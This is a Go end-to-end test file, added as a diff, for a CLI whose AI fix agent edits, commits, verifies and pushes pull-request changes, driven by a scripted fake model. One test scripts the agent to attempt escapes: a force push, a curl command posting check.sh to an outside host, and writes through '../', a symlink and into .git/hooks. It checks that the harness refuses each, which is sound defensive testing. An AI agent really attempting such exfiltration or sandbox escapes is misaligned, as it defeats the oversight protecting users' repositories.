@@ -1,0 +1,385 @@
+package e2e
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/ocdx/gh-ocdx/internal/testkit"
+	"github.com/ocdx/gh-ocdx/review"
+)
+
+// Commits are made with fixed dates, so the test can compute the sha the
+// fix agent's git_commit will return and script the model's envelope with it.
+const fixDate = "2026-01-02T03:04:05Z"
+
+// fixSetup is a PR whose head branch is in a real bare remote, a clone on
+// it, the fake GitHub and the fake model playing pr-fix ("fixer"). Its
+// verification, `sh check.sh`, passes once a.txt says "fixed".
+type fixSetup struct {
+	gh    *testkit.GitHub
+	fm    *testkit.FakeModel
+	env   *testkit.Env
+	repo  *testkit.Repo
+	start string // the PR's head before the run
+	twin  string // a second clone where the test replays the agent's commits
+}
+
+var fixFindings = []review.Finding{
+	{Priority: "P0", Category: "security", File: "a.txt", Title: "a is unsafe", Description: "make a.txt say fixed"},
+	{Priority: "P2", Category: "quality", File: "b.txt", Title: "b is odd", Description: "rename b; token ghp_abcdefghijklmnopqrstuvwxyz0123456789 seen"},
+}
+
+func fixIDs() (string, string) { return fixFindings[0].ComputeID(), fixFindings[1].ComputeID() }
+
+func newFixSetup(t *testing.T) *fixSetup {
+	t.Helper()
+	gh := testkit.NewGitHub(t)
+	r := testkit.NewRepo(t, "main", "feature/fix",
+		map[string]string{"a.txt": "a\n", "check.sh": "grep -q fixed a.txt || { echo 'boom: a.txt is not fixed'; exit 1; }\n"},
+		map[string]string{"b.txt": "b\n"})
+	gh.AddPR(repo, testkit.PR{Number: 24, Title: "Widgets", HeadRef: r.Head, BaseRef: r.Base, Remote: r.Remote, Diff: r.Diff(t)})
+	fm := testkit.NewFakeModel(t)
+	env := testkit.NewEnv(t)
+	gh.Configure(env, repo)
+	for _, kv := range fm.Env() {
+		k, v, _ := strings.Cut(kv, "=")
+		env.Set(k, v)
+	}
+	env.Set("GIT_AUTHOR_DATE", fixDate)
+	env.Set("GIT_COMMITTER_DATE", fixDate)
+	env.Dir = r.Clone
+	writeConfig(t, env, `{"reviewerModels":["openai/reviewer"],"commentsAnalyzerModel":"openai/analyzer","prFixModel":"openai/fixer","verify":["sh check.sh"]}`)
+	payload, _ := json.Marshal(review.FixPayload{PRNumber: 24, Round: 1, IssuesToFix: fixFindings, OptionalIssues: []review.Finding{}})
+	if err := os.WriteFile(filepath.Join(env.Root, "payload.json"), payload, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	s := &fixSetup{gh: gh, fm: fm, env: env, repo: r, start: r.RemoteOID(t, r.Head), twin: filepath.Join(t.TempDir(), "twin")}
+	s.git(t, filepath.Dir(s.twin), "clone", "--quiet", "--branch", r.Head, r.Clone, s.twin)
+	return s
+}
+
+// git runs git in dir with the run's environment (identity, dates).
+func (s *fixSetup) git(t *testing.T, dir string, args ...string) string {
+	t.Helper()
+	c := exec.Command("git", args...)
+	c.Dir, c.Env = dir, s.env.List()
+	out, err := c.CombinedOutput()
+	if err != nil {
+		t.Fatalf("git %v: %v\n%s", args, err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// predict replays a commit of the agent in the twin and returns its sha.
+func (s *fixSetup) predict(t *testing.T, files map[string]string, message string) string {
+	t.Helper()
+	testkit.WriteFiles(t, s.twin, files)
+	s.git(t, s.twin, "add", "--all")
+	s.git(t, s.twin, "commit", "--quiet", "--no-verify", "-m", message)
+	return s.git(t, s.twin, "rev-parse", "HEAD")
+}
+
+func (s *fixSetup) run(t *testing.T, args ...string) testkit.Result {
+	t.Helper()
+	return s.env.Run(t, append([]string{"fix", "--pr", "24", "--findings", filepath.Join(s.env.Root, "payload.json")}, args...)...)
+}
+
+func call(name string, args any) testkit.FakeCall {
+	b, _ := json.Marshal(args)
+	return testkit.FakeCall{Name: name, Args: string(b)}
+}
+
+// envelope is the agent's A5 answer.
+func envelope(fixed map[string]string, rejected map[string]string, commits ...string) testkit.Step {
+	res := review.FixResult{Agent: "pr-fix", PRNumber: 24, FixedIssues: []review.FixedIssue{}, RejectedIssues: []review.RejectedIssue{}, Commits: []review.Commit{}}
+	for id, sha := range fixed {
+		res.FixedIssues = append(res.FixedIssues, review.FixedIssue{FindingID: id, CommitSha: sha, Description: "done"})
+	}
+	for id, why := range rejected {
+		res.RejectedIssues = append(res.RejectedIssues, review.RejectedIssue{FindingID: id, Reason: why})
+	}
+	for _, c := range commits {
+		res.Commits = append(res.Commits, review.Commit{Sha: c, Message: "fix"})
+	}
+	b, _ := json.Marshal(res)
+	return testkit.Reply("BEGIN_JSON\n" + string(b) + "\nEND_JSON")
+}
+
+var (
+	fixA    = call("edit_file", map[string]string{"path": "a.txt", "old_string": "a\n", "new_string": "fixed\n"})
+	commitA = call("git_commit", map[string]any{"message": "fix: a is safe now", "paths": []string{"a.txt"}})
+)
+
+func (s *fixSetup) checkComments(t *testing.T, want int) []testkit.PostedComment {
+	t.Helper()
+	cs := s.gh.Comments(repo, 24)
+	if len(cs) != want {
+		t.Fatalf("%d comments, want %d", len(cs), want)
+	}
+	for _, c := range cs {
+		if !strings.Contains(c.Body, "<!-- pr-review-loop-marker -->") || !strings.Contains(c.Body, "kind=fix -->") || !strings.Contains(c.Body, "<!-- ocdx:run=") {
+			t.Errorf("comment without marker or tag:\n%s", c.Body)
+		}
+		if strings.Contains(c.Body, "ghp_") || strings.Contains(c.Body, "diff --git") {
+			t.Errorf("comment leaks a secret or a diff:\n%s", c.Body)
+		}
+	}
+	return cs
+}
+
+func (s *fixSetup) wantRemote(t *testing.T, oid string) {
+	t.Helper()
+	if got := s.repo.RemoteOID(t, s.repo.Head); got != oid {
+		t.Errorf("remote head %s, want %s", got, oid)
+	}
+}
+
+func TestFixEditsCommitsVerifiesAndPushes(t *testing.T) {
+	s := newFixSetup(t)
+	a, b := fixIDs()
+	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
+	s.fm.Script("fixer",
+		testkit.CallTools(call("read_file", map[string]string{"path": "a.txt"})),
+		testkit.CallTools(fixA),
+		testkit.CallTools(call("run_command", map[string]any{"argv": []string{"sh", "check.sh"}})),
+		testkit.CallTools(commitA),
+		envelope(map[string]string{a: sha}, map[string]string{b: "b is fine; ghp_abcdefghijklmnopqrstuvwxyz0123456789"}, sha))
+
+	res := s.run(t, "--yes")
+
+	if res.Code != 0 {
+		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", res.Code, res.Stdout, res.Stderr)
+	}
+	s.wantRemote(t, sha)
+	s.git(t, s.repo.Remote, "merge-base", "--is-ancestor", s.start, sha) // a fast-forward
+	body := s.checkComments(t, 1)[0].Body
+	for _, want := range []string{a, "a is unsafe", b, sha[:7], "fix: a is safe now", "sh check.sh", "passed", "round=1 kind=fix", "tokens"} {
+		if !strings.Contains(body, want) {
+			t.Errorf("report lacks %q:\n%s", want, body)
+		}
+	}
+	for _, want := range []string{"Fixed: 1, rejected: 1", "Pushed to feature/fix", "Report: https://"} {
+		if !strings.Contains(res.Stdout, want) {
+			t.Errorf("stdout lacks %q:\n%s", want, res.Stdout)
+		}
+	}
+	if !strings.Contains(res.Stderr, "boom") && !strings.Contains(res.Stderr, "$ sh check.sh") {
+		t.Errorf("verification output must stream to stderr:\n%s", res.Stderr)
+	}
+	// Done means done: the state has no WIP left, and a second run finds
+	// the report's tag and the pushed phase.
+	st := s.env.Run(t, "state", "show", "--pr", "24", "--json")
+	if strings.Contains(st.Stdout, `"wip"`) || !strings.Contains(st.Stdout, `"pushed"`) {
+		t.Errorf("state after the fix:\n%s", st.Stdout)
+	}
+}
+
+func TestFixRetriesAfterAFailedVerification(t *testing.T) {
+	s := newFixSetup(t)
+	a, b := fixIDs()
+	first := s.predict(t, map[string]string{"c.txt": "c\n"}, "feat: c")
+	second := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
+	s.fm.Script("fixer",
+		testkit.CallTools(call("write_file", map[string]string{"path": "c.txt", "content": "c\n"})),
+		testkit.CallTools(call("git_commit", map[string]any{"message": "feat: c"})),
+		envelope(map[string]string{a: first}, map[string]string{b: "fine"}, first),
+		testkit.CallTools(fixA), testkit.CallTools(commitA),
+		envelope(map[string]string{a: second}, map[string]string{b: "fine"}, first, second))
+
+	res := s.run(t, "--yes")
+
+	if res.Code != 0 {
+		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
+	}
+	s.wantRemote(t, second)
+	reqs := s.fm.Requests("fixer")
+	retry := string(reqs[3].Body)
+	if !strings.Contains(retry, "attempt 2 of 3") || !strings.Contains(retry, "boom: a.txt is not fixed") {
+		t.Errorf("the retry must show the failing command's output:\n%s", retry)
+	}
+	body := s.checkComments(t, 1)[0].Body
+	if !strings.Contains(body, "2 attempt") || !strings.Contains(body, first[:7]) || !strings.Contains(body, second[:7]) {
+		t.Errorf("report:\n%s", body)
+	}
+}
+
+func TestFixStopsAfterThreeFailedVerifications(t *testing.T) {
+	s := newFixSetup(t)
+	a, b := fixIDs()
+	var steps []testkit.Step
+	var shas []string
+	for i := range 3 {
+		file := map[string]string{"c.txt": fmt.Sprintf("try %d\n", i)}
+		sha := s.predict(t, file, fmt.Sprintf("try %d", i))
+		shas = append(shas, sha)
+		steps = append(steps,
+			testkit.CallTools(call("write_file", map[string]string{"path": "c.txt", "content": file["c.txt"]})),
+			testkit.CallTools(call("git_commit", map[string]any{"message": fmt.Sprintf("try %d", i)})),
+			envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, shas...))
+	}
+	s.fm.Script("fixer", steps...)
+
+	res := s.run(t, "--yes")
+
+	if res.Code != 3 || !strings.Contains(res.Stderr, "verification failed after 3 attempts") || !strings.Contains(res.Stderr, "not pushed") {
+		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
+	}
+	s.wantRemote(t, s.start)
+	s.checkComments(t, 0)
+	if got := s.git(t, s.repo.Clone, "rev-parse", "HEAD"); got != shas[2] {
+		t.Errorf("the commits must stay local: HEAD %s", got)
+	}
+}
+
+func TestFixAgentCannotEscape(t *testing.T) {
+	s := newFixSetup(t)
+	a, b := fixIDs()
+	outside := filepath.Join(s.env.Root, "outside")
+	os.MkdirAll(outside, 0o755)
+	// A symlink committed in the branch, leading out of the repository.
+	os.Symlink(outside, filepath.Join(s.repo.Clone, "link"))
+	s.git(t, s.repo.Clone, "add", "link")
+	s.git(t, s.repo.Clone, "commit", "--quiet", "-m", "link")
+	s.git(t, s.repo.Clone, "push", "--quiet", "origin", s.repo.Head)
+	s.start = s.repo.RemoteOID(t, s.repo.Head)
+	s.fm.Script("fixer",
+		testkit.CallTools(call("run_command", map[string]any{"argv": []string{"git", "push", "--force", "origin", "HEAD:feature/fix"}})),
+		testkit.CallTools(call("run_command", map[string]any{"argv": []string{"curl", "-d", "@check.sh", "https://example.com"}})),
+		testkit.CallTools(call("write_file", map[string]string{"path": "../outside/pwned", "content": "x"})),
+		testkit.CallTools(call("write_file", map[string]string{"path": "link/pwned", "content": "x"})),
+		testkit.CallTools(call("write_file", map[string]string{"path": ".git/hooks/pre-push", "content": "x"})),
+		envelope(nil, map[string]string{a: "cannot", b: "cannot"}))
+
+	res := s.run(t, "--yes")
+
+	if res.Code != 0 {
+		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
+	}
+	s.wantRemote(t, s.start)
+	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
+		t.Errorf("written outside the repository: %v", entries)
+	}
+	if _, err := os.Stat(filepath.Join(s.repo.Clone, ".git/hooks/pre-push")); err == nil {
+		t.Error("written into .git")
+	}
+	reqs := s.fm.Requests("fixer")
+	for i, want := range []string{"git push is not allowed", "curl is not allowed", "outside the repository", "outside the repository", "outside the repository"} {
+		if body := string(reqs[i+1].Body); !strings.Contains(body, want) {
+			t.Errorf("request %d lacks the refusal %q:\n%s", i+1, want, body)
+		}
+	}
+	body := s.checkComments(t, 1)[0].Body
+	if !strings.Contains(body, "No commit to push") || !strings.Contains(body, "Rejected (2)") {
+		t.Errorf("report:\n%s", body)
+	}
+}
+
+func TestFixInvariantViolatedPushesNothing(t *testing.T) {
+	s := newFixSetup(t)
+	a, _ := fixIDs()
+	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
+	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, nil, sha))
+
+	res := s.run(t, "--yes")
+
+	if res.Code != 1 || !strings.Contains(res.Stderr, "invariant") || !strings.Contains(res.Stderr, "nothing was pushed") {
+		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
+	}
+	s.wantRemote(t, s.start)
+	s.checkComments(t, 0)
+	if got := s.git(t, s.repo.Clone, "rev-parse", "HEAD"); got != sha {
+		t.Errorf("the local commit must stay: HEAD %s", got)
+	}
+}
+
+func TestFixPushRejectedWhenTheRemoteMoved(t *testing.T) {
+	s := newFixSetup(t)
+	a, b := fixIDs()
+	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
+	other := filepath.Join(t.TempDir(), "other")
+	s.git(t, filepath.Dir(other), "clone", "--quiet", "--branch", s.repo.Head, s.repo.Remote, other)
+	testkit.WriteFiles(t, other, map[string]string{"d.txt": "theirs\n"})
+	s.git(t, other, "add", "d.txt")
+	s.git(t, other, "commit", "--quiet", "-m", "theirs")
+	s.git(t, other, "push", "--quiet", "origin", s.repo.Head)
+	theirs := s.repo.RemoteOID(t, s.repo.Head)
+	s.fm.Script("fixer", testkit.CallTools(fixA), testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))
+
+	res := s.run(t, "--yes")
+
+	if res.Code != 1 || !strings.Contains(res.Stderr, "rejected") || !strings.Contains(res.Stderr, "nothing was forced") {
+		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
+	}
+	s.wantRemote(t, theirs)
+	s.checkComments(t, 0)
+	if got := s.git(t, s.repo.Clone, "rev-parse", "HEAD"); got != sha {
+		t.Errorf("the local commit must stay: HEAD %s", got)
+	}
+}
+
+func TestFixContinueAfterAKill(t *testing.T) {
+	s := newFixSetup(t)
+	a, b := fixIDs()
+	s.fm.Script("fixer",
+		testkit.CallTools(fixA),
+		testkit.CallTools(call("note", map[string]string{"text": "next: commit a.txt, then reject b"})),
+		testkit.Stall(time.Minute, "never answered"))
+
+	c := exec.Command(testkit.Binary(t), "fix", "--pr", "24", "--findings", filepath.Join(s.env.Root, "payload.json"), "--yes")
+	c.Dir, c.Env = s.env.Dir, s.env.List()
+	if err := c.Start(); err != nil {
+		t.Fatal(err)
+	}
+	for deadline := time.Now().Add(time.Minute); len(s.fm.Requests("fixer")) < 3; {
+		if time.Now().After(deadline) {
+			c.Process.Kill()
+			t.Fatal("the fix never reached its third model call")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	c.Process.Signal(syscall.SIGKILL)
+	c.Wait()
+
+	sha := s.predict(t, map[string]string{"a.txt": "fixed\n"}, "fix: a is safe now")
+	s.fm.Script("fixer", testkit.CallTools(commitA), envelope(map[string]string{a: sha}, map[string]string{b: "fine"}, sha))
+	res := s.env.Run(t, "fix", "--pr", "24", "--continue", "--yes")
+
+	if res.Code != 0 {
+		t.Fatalf("exit %d\nstderr:\n%s", res.Code, res.Stderr)
+	}
+	resumed := string(s.fm.Requests("fixer")[3].Body)
+	for _, want := range []string{"Resuming an interrupted fix", "next: commit a.txt, then reject b", "a.txt", "Uncommitted changes: true", a} {
+		if !strings.Contains(resumed, want) {
+			t.Errorf("the resumed agent is not told %q:\n%s", want, resumed)
+		}
+	}
+	s.wantRemote(t, sha)
+	s.checkComments(t, 1)
+}
+
+func TestFixUsageAndNothingToDo(t *testing.T) {
+	s := newFixSetup(t)
+	for _, args := range [][]string{{"fix", "--pr", "x"}, {"fix", "extra"}, {"fix", "--pr", "24"}, {"fix", "--pr", "24", "--continue", "--findings", "f.json", "--yes"}, {"fix", "--bogus"}} {
+		if res := s.env.Run(t, args...); res.Code != 2 {
+			t.Errorf("%v: exit %d, want 2\n%s", args, res.Code, res.Stderr)
+		}
+	}
+	if s.gh.Count("") != 0 || len(s.fm.Requests("fixer")) != 0 {
+		t.Error("usage errors must come before any request")
+	}
+	if res := s.env.Run(t, "fix", "--pr", "24", "--yes"); res.Code != 1 || !strings.Contains(res.Stderr, "review-loop") {
+		t.Errorf("no review recorded: exit %d\n%s", res.Code, res.Stderr)
+	}
+	empty, _ := json.Marshal(review.FixPayload{PRNumber: 24, Round: 1, IssuesToFix: []review.Finding{}, OptionalIssues: []review.Finding{}})
+	os.WriteFile(filepath.Join(s.env.Root, "payload.json"), empty, 0o600)
+	if res := s.run(t, "--yes"); res.Code != 0 || !strings.Contains(res.Stdout, "Nothing to fix") || len(s.fm.Requests("fixer")) != 0 {
+		t.Errorf("nothing to fix: exit %d\n%s%s", res.Code, res.Stdout, res.Stderr)
+	}
+}
